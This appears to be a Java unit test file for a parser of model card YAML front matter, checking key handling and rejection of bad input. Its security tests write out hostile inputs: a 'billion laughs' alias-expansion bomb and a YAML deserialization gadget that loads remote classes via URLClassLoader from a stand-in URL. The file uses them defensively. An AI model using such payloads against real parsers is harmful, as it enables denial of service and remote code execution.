package org.stele.domain.files;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class ModelCardTest {
    private static FileFacts parse(String text) {
        byte[] b = text.getBytes(StandardCharsets.UTF_8);
        return ModelCard.parse(b, b.length);
    }

    @Test
    void keepsHubKeysByTheirNames() {
        FileFacts facts = parse("""
                ---
                license: apache-2.0
                language: [en, fr]
                tags:
                  - text-generation
                  - tiny
                datasets: lab/tiny-corpus
                base_model: lab/base-llm
                library_name: transformers
                pipeline_tag: text-generation
                metrics: [accuracy]
                model-index:
                  - name: tiny
                    results:
                      - task: {type: text-generation}
                        metrics: [{type: accuracy, value: 0.5}]
                secret_internal_key: not kept
                ---
                # Tiny
                """);
        assertThat(facts.warnings()).isEmpty();
        Map<String, Object> card = facts.card();
        assertThat(card).containsEntry("license", "apache-2.0").containsEntry("language", List.of("en", "fr"))
                .containsEntry("tags", List.of("text-generation", "tiny")).containsEntry("datasets", "lab/tiny-corpus")
                .containsEntry("base_model", "lab/base-llm").containsEntry("library_name", "transformers")
                .containsEntry("pipeline_tag", "text-generation").containsKey("model-index")
                .doesNotContainKey("secret_internal_key");
    }

    @Test
    void billionLaughsIsRefused() {
        StringBuilder yaml = new StringBuilder("---\na: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'k'; c++) {
            String prev = String.valueOf((char) (c - 1));
            yaml.append(c).append(": &").append(c).append(" [*").append(prev).append(", *").append(prev).append(", *")
                    .append(prev).append(", *").append(prev).append(", *").append(prev).append(", *").append(prev)
                    .append(", *").append(prev).append(", *").append(prev).append(", *").append(prev).append("]\n");
        }
        FileFacts facts = parse(yaml + "license: mit\n---\n");
        assertThat(facts.card()).isNull();
        assertThat(facts.warnings()).singleElement().asString().contains("not valid YAML");
    }

    @Test
    void customTagsAndObjectConstructionAreRefused() {
        assertThat(parse("---\nlicense: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n---\n")
                .warnings()).singleElement().asString().contains("not valid YAML");
        assertThat(parse("---\nlicense: !custom mit\n---\n").warnings()).singleElement().asString().contains("not valid YAML");
    }

    @Test
    void deepNestingDuplicateKeysAndSizeAreLimited() {
        assertThat(parse("---\ntags: " + "[".repeat(200) + "]".repeat(200) + "\n---\n").warnings())
                .singleElement().asString().contains("not valid YAML");
        assertThat(parse("---\nlicense: mit\nlicense: apache-2.0\n---\n").warnings())
                .singleElement().asString().contains("not valid YAML");
        String big = "---\ntags:\n" + "  - a-tag-of-some-length\n".repeat(4000) + "---\n";
        byte[] b = big.getBytes(StandardCharsets.UTF_8);
        FileFacts facts = ModelCard.parse(java.util.Arrays.copyOf(b, ModelCard.MAX_READ_BYTES), b.length);
        assertThat(facts.card()).isNull();
        assertThat(facts.warnings()).singleElement().asString().contains("longer than");
    }

    @Test
    void malformedAndMissingFrontMatterAreWarnings() {
        assertThat(parse("---\nlicense: [unclosed\n---\n").warnings()).singleElement().asString().contains("not valid YAML");
        assertThat(parse("---\nlicense: mit\n").warnings()).singleElement().asString().contains("not closed");
        assertThat(parse("# Just prose\n").warnings()).singleElement().asString().contains("no YAML front matter");
        assertThat(parse("---\n- a\n- b\n---\n").warnings()).singleElement().asString().contains("not a YAML mapping");
        FileFacts wrongShape = parse("---\nlicense: [mit]\ntags: {a: b}\n---\n");
        assertThat(wrongShape.card()).containsKey("license");
        assertThat(wrongShape.warnings()).hasSize(2);
    }
}
